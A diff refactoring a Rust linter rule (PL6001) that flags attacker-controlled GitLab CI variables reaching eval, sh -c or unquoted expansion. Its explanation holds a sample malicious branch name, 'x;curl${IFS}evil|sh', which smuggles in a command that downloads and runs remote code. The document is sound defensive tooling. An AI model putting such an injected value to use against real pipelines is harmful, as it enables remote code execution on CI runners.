@@ -1,29 +1,24 @@
 //! PL6001 untrusted-input: Text an outsider controls reaches the shell as code or unquoted.
 
-#[allow(unused_imports)]
-use crate::{FileCx, JobCx, PipelineCx, Rule, RuleMeta};
-use plumb_diagnostics::{Code, Diagnostic};
+use crate::JobCx;
+use plumb_diagnostics::Diagnostic;
 
-pub static RULE: RuleMeta = RuleMeta {
-    code: Code::PL6001,
+declare_rule! {
+    code: PL6001,
     summary: r####"Text an outsider controls reaches the shell as code or unquoted."####,
     explanation: r####"Anyone who can open a merge request or push a branch chooses the values of `CI_MERGE_REQUEST_TITLE`, `CI_MERGE_REQUEST_DESCRIPTION`, `CI_MERGE_REQUEST_SOURCE_BRANCH_NAME`, `CI_COMMIT_MESSAGE`, `CI_COMMIT_TITLE`, `CI_COMMIT_DESCRIPTION`, `CI_COMMIT_REF_NAME`, `CI_COMMIT_BRANCH` and `CI_COMMIT_AUTHOR`. Handed to `eval` or to `sh -c`/`bash -c` in a string, any of them runs as code: a branch may be named `x;curl${IFS}evil|sh`. The free-text ones (titles, descriptions, messages, authors) are also reported when expanded unquoted in a command's arguments, where the shell splits them into several arguments and expands `*`; branch names cannot hold spaces or glob characters, so unquoted they are not reported. Quote the expansion (`"$CI_COMMIT_MESSAGE"`) and never build code from it."####,
     bad: r####"pipeline p {
   stage s { job j { image = "busybox:1.36.1@sha256:9d75f0d7c398df565d7ac04c6819b62d6d8f9560f5eb4672596ecd8f7e96ae91", run = ["eval \"echo $CI_COMMIT_MESSAGE\""] } } }"####,
     good: r####"pipeline p {
   stage s { job j { image = "busybox:1.36.1@sha256:9d75f0d7c398df565d7ac04c6819b62d6d8f9560f5eb4672596ecd8f7e96ae91", run = ["echo \"$CI_COMMIT_MESSAGE\""] } } }"####,
-};
+    job: check_job,
+}
 
-pub struct Check;
-
-impl Rule for Check {
-    fn meta(&self) -> &'static RuleMeta {
-        &RULE
-    }
-
-    fn check_job(&self, cx: &JobCx, out: &mut Vec<Diagnostic>) {
-        out.extend(crate::supply::untrusted_input(cx).into_iter().map(|hit| {
-            hit.into_diagnostic(&RULE, "quote the expansion (`\"$VAR\"`) and pass it as data, never as code (`eval`, `sh -c`)")
-        }));
-    }
+fn check_job(cx: &JobCx, out: &mut Vec<Diagnostic>) {
+    out.extend(crate::supply::untrusted_input(cx).into_iter().map(|hit| {
+        hit.into_diagnostic(
+            &RULE,
+            "quote the expansion (`\"$VAR\"`) and pass it as data, never as code (`eval`, `sh -c`)",
+        )
+    }));
 }
